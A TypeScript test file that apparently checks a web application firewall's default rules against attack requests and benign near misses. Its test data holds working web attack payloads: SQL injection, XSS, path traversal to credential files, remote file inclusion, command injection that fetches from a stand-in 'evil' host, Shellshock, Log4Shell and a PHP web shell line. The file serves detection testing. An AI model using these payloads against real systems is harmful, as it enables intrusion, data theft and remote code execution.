import t from 'tap'
import { RuleEngine, loadRules, defaultRulesDir } from '../../../lib/rules/index.js'
import type { RequestInput } from '../../../lib/rules/index.js'

const UA = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'
const q = (v: string): RequestInput => ({ method: 'GET', url: `/p?q=${encodeURIComponent(v)}`, rawHeaders: ['Host', 'shop.example', 'User-Agent', UA] })
const ua = (v: string): RequestInput => ({ method: 'GET', url: '/', rawHeaders: ['Host', 'shop.example', 'User-Agent', v] })

/** Each default rule: requests it must flag, and near misses it must leave alone. */
const CASES: Record<string, { hit: RequestInput[], miss: RequestInput[] }> = {
  100101: { hit: [q("1' UNION SELECT password FROM users--"), q('-1/**/uNiOn/**/aLl/**/SeLeCt 1,2'), q('1 /*!50000union*/ /*!select*/ 1')], miss: [q('family reunion selection'), q('union station select menu')] },
  100102: { hit: [q("x' or 1=1--"), q("admin' and 'a'='a"), q('x" or sleep(5)#')], miss: [q('the "best" and 2 others'), q("rock 'n' roll and more")] },
  100103: { hit: [q('1 and 1=1'), q('1) or (2>1')], miss: [q('salt and pepper')] },
  100104: { hit: [q("admin'--"), q("1');--")], miss: [q("it's -- fine"), q('"#2 mom"')] },
  100105: { hit: [q('1; DROP TABLE users'), q("x'; exec master..xp_cmdshell 'dir'")], miss: [q('fish; chips; peas')] },
  100106: { hit: [q('1 and benchmark(5000000,md5(1))'), q('select * from information_schema.tables'), q('ascii(substring(version(),1,1))')], miss: [q('library version (64bit)'), q('the user (admin) asked')] },
  100107: { hit: [q('(select count(*) from users)'), q('1 and (select 1 from dual)')], miss: [q('please select your size from the list')] },
  100108: { hit: [q('1 order by 5--'), q('1 group by x having 1=1')], miss: [q('order by price')] },
  100109: { hit: [q('/*!50000select*/ 1'), q("'||(select 1)")], miss: [q('a || b')] },
  100110: { hit: [q("x' = 'x"), q('case when 1 then 2 end')], miss: [q('"foo" AND "bar"'), q("at the intersection of 'purrr' and 'dplyr'")] },
  100111: { hit: [q("1' or 1=1--"), q('1 union select 1,2,3--'), q("admin'/**/or/**/'1'='1")], miss: [q('the union of two select sets'), q("o'reilly and sons")] },
  100201: { hit: [q('<script>alert(1)</script>'), q('%3Cscript%3E')], miss: [q('a description of scripts')] },
  100202: { hit: [q('<img src=x onerror=alert(1)>'), q('" onmouseover="alert(1)')], miss: [q('button=on&online=1'), q('turn on the light')] },
  100203: { hit: [q('javascript:alert(1)'), q('j&#97;vascript&colon;alert(1)'), q('data:text/html;base64,PHN2Zz4=')], miss: [q('java script tutorial')] },
  100204: { hit: [q('<iframe src="http://evil">'), q('<embed src=x.swf>')], miss: [q('<b>bold</b>'), q('<a href="/faq">FAQ</a>')] },
  100205: { hit: [q('<iframe>'), q('<!--x--><b>')], miss: [q('2 < 3 and 4 > 1')] },
  100206: { hit: [q('x=document.cookie'), q('eval(atob("YQ=="))')], miss: [q('the document was approved')] },
  100208: { hit: [q('<svg onload=alert(1)>'), q('" autofocus onfocus="alert(1)'), q('<a href="jav&#x61;script:alert(1)">x</a>')], miss: [q('<b>bold</b> and <i>italic</i>'), q('turn on the light: 2 < 3')] },
  100207: { hit: [q('<div style="width:expression(alert(1))">'), q('background:url(javascript:alert(1))')], miss: [q('a style guide')] },
  100301: { hit: [q('../../etc/passwd'), q('..\\..\\boot.ini'), { method: 'GET', url: '/static/..%2f..%2fetc/hosts', rawHeaders: ['Host', 'h', 'User-Agent', UA] }], miss: [q('release 1.2..1.3'), q('wait...')] },
  100302: { hit: [q('/etc/passwd'), q('/proc/self/environ'), q('c:\\windows\\win.ini'), { method: 'GET', url: '/.git/config', rawHeaders: ['Host', 'h', 'User-Agent', UA] }], miss: [q('etc. and so on'), q('my passwd is secret')] },
  100401: { hit: [q('php://filter/resource=index'), q('expect://id')], miss: [q('https://shop.example/a')] },
  100402: { hit: [q('http://evil.example/shell.txt?'), q('http://203.0.113.9/x.php')], miss: [q('https://shop.example/search?q=shoes')] },
  100501: { hit: [q('1;cat /etc/passwd'), q('x | wget http://evil/x'), q('a && whoami'), q('$(id)')], miss: [q('cats and dogs; id card')] },
  100505: { hit: [q('x|c^a^t /etc/passwd'), q('a&&w"h"o"a"m"i'), q("1;c\\a't /etc/shadow")], miss: [q('fish & chips'), q('cats and dogs; id card'), q('a; catalogue')] },
  100502: { hit: [q('$(curl http://evil)'), q('`id`'), q('a;/bin/sh -i'), q('${IFS}')], miss: [q('price $(5)')] },
  100503: { hit: [ua('() { :; }; /bin/bash -c id')], miss: [ua('Mozilla/5.0 (compatible)')] },
  100504: { hit: [q('${jndi:ldap://evil/a}'), ua('${${lower:j}ndi:ldap://x}')], miss: [q('${price}')] },
  100601: { hit: [q('<?php system($_GET[1]); ?>'), q('<?= 1 ?>'), q('<? echo 1 ?>')], miss: [q('<?xml version="1.0"?>')] },
  100602: { hit: [q('system("id")'), q('eval($_POST[x])'), q('base64_decode("aWQ=")')], miss: [q('the system (new) works'), q('eval () is evil')] },
  100603: { hit: [q('$_GET[cmd]'), q('O:8:"stdClass":0:{}')], miss: [q('USD$ GET 5')] },
  100701: { hit: [ua('sqlmap/1.7.2#stable (https://sqlmap.org)'), ua('Mozilla/5.00 (Nikto/2.1.6)')], miss: [ua(UA)] },
  100702: { hit: [{ method: 'GET', url: '/', rawHeaders: ['Host', 'h', 'User-Agent', UA, 'Acunetix-Product', 'WVS/14'] }], miss: [ua(UA)] },
  100801: { hit: [{ method: 'TRACE', url: '/', rawHeaders: ['Host', 'h', 'User-Agent', UA] }], miss: [{ method: 'GET', url: '/', rawHeaders: ['Host', 'h', 'User-Agent', UA] }] },
  100802: { hit: [{ method: 'PROPFIND', url: '/', rawHeaders: ['Host', 'h', 'User-Agent', UA] }], miss: [{ method: 'PATCH', url: '/', rawHeaders: ['Host', 'h', 'User-Agent', UA] }] },
  100803: { hit: [{ method: 'GET', url: '/', rawHeaders: ['User-Agent', UA] }], miss: [ua(UA)] },
  100804: { hit: [q('file.php\u0000.jpg')], miss: [q('file.php.jpg')] },
  100805: { hit: [q('x\r\nSet-Cookie: a=1'), q('x\nLocation: http://evil')], miss: [q('line one\nline two')] },
  100806: { hit: [{ method: 'GET', url: '/%u002e%u002e/x', rawHeaders: ['Host', 'h', 'User-Agent', UA] }], miss: [q('%u is fine once decoded')] },
  100807: { hit: [{ method: 'POST', url: '/', rawHeaders: ['Host', 'h', 'User-Agent', UA, 'Transfer-Encoding', 'chunked, identity'] }], miss: [{ method: 'POST', url: '/', rawHeaders: ['Host', 'h', 'User-Agent', UA, 'Transfer-Encoding', 'chunked'] }] }
}

t.test('every default rule fires on its payloads and not on near misses', async t => {
  const set = (await loadRules(defaultRulesDir())).build()
  const engine = new RuleEngine(set, { mode: 'detect' })
  const covered = new Set(Object.keys(CASES))
  for (const r of set.rules) {
    if (r.actions.bot && !r.actions.log) continue // the bot-only rules: tested below
    t.ok(covered.has(r.id), `rule ${r.id} (${r.msg?.source ?? ''}) has test cases`)
  }
  for (const [id, c] of Object.entries(CASES)) {
    for (const input of c.hit) t.ok(engine.check(input).matches.some(m => m.rule.id === id), `${id} flags ${input.method} ${input.url} ${input.rawHeaders?.slice(2).join(' ') ?? ''}`)
    for (const input of c.miss) t.notOk(engine.check(input).matches.some(m => m.rule.id === id), `${id} leaves ${input.method} ${input.url} alone`)
  }
})

t.test('bots are flagged without an attack entry; browsers are not', async t => {
  const engine = new RuleEngine((await loadRules(defaultRulesDir())).build(), { mode: 'block' })
  for (const agent of ['curl/8.5.0', 'python-requests/2.31', 'Googlebot/2.1 (+http://www.google.com/bot.html)', 'Go-http-client/1.1', '']) {
    const r = engine.check(ua(agent))
    t.same([r.bot, r.action, r.attacks.length], [true, 'pass', 0], JSON.stringify(agent))
  }
  const none = engine.check({ method: 'GET', url: '/', rawHeaders: ['Host', 'h'] })
  t.same([none.bot, none.attacks.length], [true, 0], 'no User-Agent at all')
  const browser = engine.check(ua(UA))
  t.same([browser.bot, browser.action], [false, 'pass'])
})

t.test('a typical browser request and a form post pass clean', async t => {
  const engine = new RuleEngine((await loadRules(defaultRulesDir())).build())
  const headers = ['Host', 'shop.example', 'User-Agent', UA, 'Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
    'Accept-Language', 'en-US,en;q=0.5', 'Accept-Encoding', 'gzip, deflate, br', 'Referer', 'https://shop.example/catalog?page=2',
    'Cookie', 'session=6f1c2a9e0b7d4c3a8e5f; theme=dark', 'Connection', 'keep-alive', 'Upgrade-Insecure-Requests', '1', 'Cache-Control', 'max-age=0']
  t.same(engine.check({ method: 'GET', url: '/catalog/search?q=running+shoes&size=42&color=blue&sort=price_asc&page=3', rawHeaders: headers }).attacks, [])
  const form = 'name=Jane+O%27Neil&email=jane%40example.com&address=12+Rue+de+l%27%C3%89glise&comment=Please+deliver+after+5pm%3B+ring+twice.&newsletter=on'
  t.same(engine.check({ method: 'POST', url: '/checkout', rawHeaders: [...headers, 'Content-Type', 'application/x-www-form-urlencoded'], body: { form } }).attacks, [])
})
